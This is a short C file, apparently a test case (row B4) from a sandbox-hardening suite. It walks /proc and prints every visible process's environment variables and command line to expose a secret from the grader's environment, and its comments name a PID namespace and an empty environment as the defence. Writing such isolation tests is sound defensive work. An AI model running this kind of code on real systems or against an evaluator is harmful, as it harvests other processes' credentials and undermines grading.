/*
 * attack: prints the environment and the command line of every process that it
 *   can see
 * row: B4
 * would show: a secret from the grader's environment
 * unconfined: works
 * defence: a PID namespace, and an empty environment (env -i)
 */
#include "attack.h"

int main(void) {
    DIR *list = opendir("/proc");
    for (struct dirent *e; list && (e = readdir(list));) {
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
        if (atoi(e->d_name) > 0)
            spill(path);
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        if (atoi(e->d_name) > 0)
            spill(path);
    }
    return 1;
}
